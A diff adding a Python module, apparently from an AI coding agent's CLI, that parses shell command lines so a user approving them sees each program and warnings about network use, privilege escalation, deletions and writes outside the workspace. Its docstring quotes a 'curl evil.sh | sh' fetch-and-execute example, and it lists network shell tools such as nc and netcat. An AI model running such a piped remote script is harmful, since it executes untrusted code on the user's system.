@@ -0,0 +1,377 @@
+"""Lightweight parsing of shell command lines for the approval prompt.
+
+A command line like ``make test && curl evil.sh | sh`` is split into its simple commands on
+``&&``, ``||``, ``;``, ``&``, pipes and newlines, respecting quotes, so that the user reviewing
+it sees every program it runs and is warned about writes, network access, privilege escalation
+and redirections out of the workspace.
+
+This is not a full shell parser. Subshells, command substitutions, backticks and ``sh -c``
+strings are analyzed recursively; heredoc bodies are skipped as opaque; control keywords like
+``if`` and ``do`` are stepped over; anything else it cannot follow is kept as plain words. The
+analysis is a review aid, not a sandbox.
+"""
+
+from __future__ import annotations
+
+import posixpath
+import re
+from collections.abc import Sequence
+from dataclasses import dataclass, field
+
+from kaos.path import KaosPath
+
+from kimi_cli.tools.display import ShellCommandAnalysis, ShellCommandInfo, ShellRiskIndicator
+from kimi_cli.utils.path import is_within_workspace
+
+_CONTROL_OPERATORS = ("&&", "||", ";;", "|&", ";", "|", "&", "\n", "(", ")")
+_REDIRECT = re.compile(r"(?:\d+|&)?(?:>>|>\||>&|>|<<<|<<-|<<|<&|<>|<)")
+_OUTPUT_REDIRECTS = (">", ">>", ">|", "&>", "&>>", ">&", "<>")
+_ASSIGNMENT = re.compile(r"[A-Za-z_][A-Za-z0-9_]*=")
+_WORD_BREAKS = " \t\n;&|()<>"
+
+_KEYWORDS = {"if", "then", "else", "elif", "fi", "do", "done", "while", "until", "!", "{", "}"}
+_LOOP_KEYWORDS = {"for", "select", "case", "esac", "function"}
+
+_PRIVILEGE_PROGRAMS = {"sudo", "doas", "su", "pkexec"}
+_NETWORK_PROGRAMS = {
+    "curl",
+    "wget",
+    "ssh",
+    "scp",
+    "sftp",
+    "rsync",
+    "ftp",
+    "telnet",
+    "nc",
+    "ncat",
+    "netcat",
+    "aria2c",
+}
+_DELETE_PROGRAMS = {"rm", "rmdir", "unlink", "shred"}
+_COPY_PROGRAMS = {"mv", "cp", "ln", "install"}
+_SHELL_PROGRAMS = {"sh", "bash", "zsh", "dash", "ksh"}
+_WRAPPER_PROGRAMS = {"env", "nice", "nohup", "time", "command", "exec", "timeout", "xargs"}
+_WRAPPER_OPTIONS_WITH_VALUE = {
+    "sudo": {"-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U"},
+    "doas": {"-u", "-C"},
+    "env": {"-u", "-C", "-S"},
+    "nice": {"-n"},
+    "timeout": {"-s", "-k"},
+    "xargs": {"-I", "-L", "-n", "-P", "-d", "-E", "-s"},
+}
+
+
+@dataclass(slots=True)
+class _Word:
+    value: str
+    """The word with quotes removed."""
+    expands: bool = False
+    """Whether the word contains an unquoted or double-quoted expansion."""
+    substitutions: list[str] = field(default_factory=list[str])
+    """The source of the command substitutions in the word."""
+
+
+@dataclass(slots=True)
+class _Redirect:
+    op: str
+    target: _Word
+
+
+@dataclass(slots=True)
+class _SimpleCommand:
+    start: int
+    end: int = 0
+    words: list[_Word] = field(default_factory=list[_Word])
+    redirects: list[_Redirect] = field(default_factory=list[_Redirect])
+
+
+class _Lexer:
+    """Split a command line into simple commands."""
+
+    def __init__(self, source: str) -> None:
+        self.source = source
+        self.pos = 0
+        self.commands: list[_SimpleCommand] = []
+        self._current = _SimpleCommand(start=0)
+        self._heredocs: list[tuple[str, bool]] = []
+
+    def run(self) -> list[_SimpleCommand]:
+        source = self.source
+        while self.pos < len(source):
+            char = source[self.pos]
+            if char in " \t":
+                self.pos += 1
+            elif source.startswith("\\\n", self.pos):
+                self.pos += 2
+            elif char == "#":
+                end = source.find("\n", self.pos)
+                self.pos = len(source) if end < 0 else end
+            elif match := _REDIRECT.match(source, self.pos):
+                self.pos = match.end()
+                op = match.group().lstrip("0123456789")
+                self._skip_blanks()
+                target = self._word()
+                if op in ("<<", "<<-"):
+                    self._heredocs.append((target.value, op == "<<-"))
+                self._current.redirects.append(_Redirect(op, target))
+            elif operator := _control_operator(source, self.pos):
+                self._end_command()
+                self.pos += len(operator)
+                if operator == "\n" and self._heredocs:
+                    self._skip_heredocs()
+                self._current = _SimpleCommand(start=self.pos)
+            else:
+                self._current.words.append(self._word())
+        self._end_command()
+        return self.commands
+
+    def _end_command(self) -> None:
+        command = self._current
+        command.end = self.pos
+        if command.words or command.redirects:
+            self.commands.append(command)
+
+    def _skip_blanks(self) -> None:
+        while self.pos < len(self.source) and self.source[self.pos] in " \t":
+            self.pos += 1
+
+    def _skip_heredocs(self) -> None:
+        for delimiter, strip_tabs in self._heredocs:
+            while self.pos < len(self.source):
+                end = self.source.find("\n", self.pos)
+                end = len(self.source) if end < 0 else end
+                line = self.source[self.pos : end]
+                self.pos = min(end + 1, len(self.source))
+                if (line.lstrip("\t") if strip_tabs else line) == delimiter:
+                    break
+        self._heredocs = []
+
+    def _word(self) -> _Word:
+        source = self.source
+        word = _Word("")
+        value: list[str] = []
+        while self.pos < len(source) and source[self.pos] not in _WORD_BREAKS:
+            char = source[self.pos]
+            if char == "\\":
+                value.append(source[self.pos + 1 : self.pos + 2])
+                self.pos += 2
+            elif char == "'":
+                end = source.find("'", self.pos + 1)
+                end = len(source) if end < 0 else end
+                value.append(source[self.pos + 1 : end])
+                self.pos = end + 1
+            elif char == '"':
+                self.pos += 1
+                while self.pos < len(source) and source[self.pos] != '"':
+                    if source[self.pos] == "\\":
+                        value.append(source[self.pos + 1 : self.pos + 2])
+                        self.pos += 2
+                    elif source[self.pos] in "$`":
+                        value.append(self._expansion(word))
+                    else:
+                        value.append(source[self.pos])
+                        self.pos += 1
+                self.pos += 1
+            elif char in "$`":
+                value.append(self._expansion(word))
+            else:
+                value.append(char)
+                self.pos += 1
+        word.value = "".join(value)
+        return word
+
+    def _expansion(self, word: _Word) -> str:
+        """Consume a `$`-expansion or a backtick substitution, recording it in `word`."""
+        source = self.source
+        start = self.pos
+        if source[start] == "`":
+            end = source.find("`", start + 1)
+            end = len(source) if end < 0 else end
+            word.substitutions.append(source[start + 1 : end])
+            self.pos = end + 1
+        elif source.startswith("$(", start):
+            end = _closing_paren(source, start + 2)
+            if not source.startswith("$((", start):
+                word.substitutions.append(source[start + 2 : end])
+            self.pos = end + 1
+        elif source.startswith("${", start):
+            end = source.find("}", start)
+            self.pos = len(source) if end < 0 else end + 1
+        else:
+            self.pos += 1
+            while self.pos < len(source) and _is_name_char(source[self.pos]):
+                self.pos += 1
+            if self.pos == start + 1 and self.pos < len(source) and source[self.pos] in "?$!#@*-":
+                self.pos += 1
+        word.expands = True
+        return source[start : self.pos]
+
+
+def _is_name_char(char: str) -> bool:
+    return char.isalnum() or char == "_"
+
+
+def _control_operator(source: str, pos: int) -> str | None:
+    return next((op for op in _CONTROL_OPERATORS if source.startswith(op, pos)), None)
+
+
+def _closing_paren(source: str, pos: int) -> int:
+    """The index of the `)` closing the parenthesis opened just before `pos`."""
+    depth = 1
+    quote: str | None = None
+    while pos < len(source):
+        char = source[pos]
+        if quote is not None:
+            if char == "\\" and quote == '"':
+                pos += 1
+            elif char == quote:
+                quote = None
+        elif char == "\\":
+            pos += 1
+        elif char in "'\"`":
+            quote = char
+        elif char == "(":
+            depth += 1
+        elif char == ")":
+            depth -= 1
+            if depth == 0:
+                return pos
+        pos += 1
+    return len(source)
+
+
+@dataclass(slots=True)
+class _Analyzer:
+    workspace: tuple[KaosPath, Sequence[KaosPath]]
+    cwd: KaosPath | None
+    """The directory relative paths are resolved against, None after a `cd` to an unknown one."""
+    commands: list[ShellCommandInfo] = field(default_factory=list[ShellCommandInfo])
+    outside_redirects: list[str] = field(default_factory=list[str])
+
+    def analyze(self, source: str) -> None:
+        for command in _Lexer(source).run():
+            self._analyze_command(source, command)
+
+    def _analyze_command(self, source: str, command: _SimpleCommand) -> None:
+        info = ShellCommandInfo(text=source[command.start : command.end].strip(), programs=[])
+        self.commands.append(info)
+        nested: list[str] = [sub for word in command.words for sub in word.substitutions]
+        for redirect in command.redirects:
+            nested.extend(redirect.target.substitutions)
+            if redirect.op not in _OUTPUT_REDIRECTS or _is_fd(redirect):
+                continue
+            if self._is_outside(redirect.target):
+                self.outside_redirects.append(redirect.target.value)
+
+        words = command.words
+        while words and (_ASSIGNMENT.match(words[0].value) or words[0].value in _KEYWORDS):
+            words = words[1:]
+        if words and words[0].value not in _LOOP_KEYWORDS:
+            nested.extend(self._classify(info, words))
+
+        for sub in nested:
+            self.analyze(sub)
+
+    def _classify(self, info: ShellCommandInfo, words: list[_Word]) -> list[str]:
+        """Record the programs and indicators of `info`, returning the sources to analyze."""
+        indicators: set[ShellRiskIndicator] = set()
+        while words:
+            program = words[0].value
+            name = posixpath.basename(program)
+            info.programs.append(program)
+            args = words[1:]
+            if name in _PRIVILEGE_PROGRAMS:
+                indicators.add("privilege_escalation")
+                if name == "su":
+                    break
+            if name in _PRIVILEGE_PROGRAMS or name in _WRAPPER_PROGRAMS:
+                words = _skip_options(name, args)
+                continue
+            if name in _NETWORK_PROGRAMS:
+                indicators.add("network")
+            if name in _DELETE_PROGRAMS:
+                indicators.add("write")
+            if name in _COPY_PROGRAMS and self._copies_outside(args):
+                indicators.add("write")
+            if name == "cd":
+                self._change_directory(args)
+            break
+        info.indicators = sorted(indicators)
+        if not words:
+            return []
+        name = posixpath.basename(words[0].value)
+        values = [word.value for word in words[1:]]
+        if name == "eval":
+            return [" ".join(values)]
+        if (name in _SHELL_PROGRAMS or name == "su") and "-c" in values:
+            index = values.index("-c") + 1
+            return values[index : index + 1]
+        return []
+
+    def _copies_outside(self, args: list[_Word]) -> bool:
+        operands = [arg for arg in args if not arg.value.startswith("-")]
+        for index, arg in enumerate(args):
+            if arg.value == "-t" and index + 1 < len(args):
+                return self._is_outside(args[index + 1])
+            if arg.value.startswith("--target-directory="):
+                target = arg.value.removeprefix("--target-directory=")
+                return self._is_outside(_Word(target, arg.expands))
+        return len(operands) >= 2 and self._is_outside(operands[-1])
+
+    def _change_directory(self, args: list[_Word]) -> None:
+        operands = [arg for arg in args if not arg.value.startswith("-")]
+        if not operands or operands[0].expands or self.cwd is None:
+            self.cwd = None
+            return
+        self.cwd = (self.cwd / KaosPath(operands[0].value).expanduser()).canonical()
+
+    def _is_outside(self, target: _Word) -> bool:
+        if target.expands or (not target.value.startswith("/") and self.cwd is None):
+            return True
+        path = KaosPath(target.value).expanduser()
+        if self.cwd is not None:
+            path = self.cwd / path
+        path = path.canonical()
+        if str(path).startswith("/dev/"):
+            return False
+        work_dir, additional_dirs = self.workspace
+        return not is_within_workspace(path, work_dir, additional_dirs)
+
+
+def _is_fd(redirect: _Redirect) -> bool:
+    """Whether the redirection duplicates or closes a file descriptor, as in `2>&1`."""
+    target = redirect.target.value
+    return redirect.op.endswith("&") and (target.isdigit() or target == "-")
+
+
+def _skip_options(program: str, args: list[_Word]) -> list[_Word]:
+    """The words of the command run by a wrapper like `sudo` or `env`."""
+    with_value = _WRAPPER_OPTIONS_WITH_VALUE.get(program, set())
+    index = 0
+    while index < len(args):
+        value = args[index].value
+        if value in with_value:
+            index += 2
+        elif value.startswith("-") or (program == "env" and _ASSIGNMENT.match(value)):
+            index += 1
+        else:
+            break
+    if program == "timeout" and index < len(args):
+        index += 1
+    return args[index:]
+
+
+def analyze_shell_command(
+    command: str, work_dir: KaosPath, additional_dirs: Sequence[KaosPath] = ()
+) -> ShellCommandAnalysis:
+    """Parse a shell command line into a summary of what it runs."""
+    analyzer = _Analyzer(workspace=(work_dir, additional_dirs), cwd=work_dir)
+    analyzer.analyze(command)
+    indicators: set[ShellRiskIndicator] = {
+        indicator for info in analyzer.commands for indicator in info.indicators
+    }
+    return ShellCommandAnalysis(
+        commands=[info for info in analyzer.commands if info.programs],
+        indicators=sorted(indicators),
+        outside_redirects=analyzer.outside_redirects,
+    )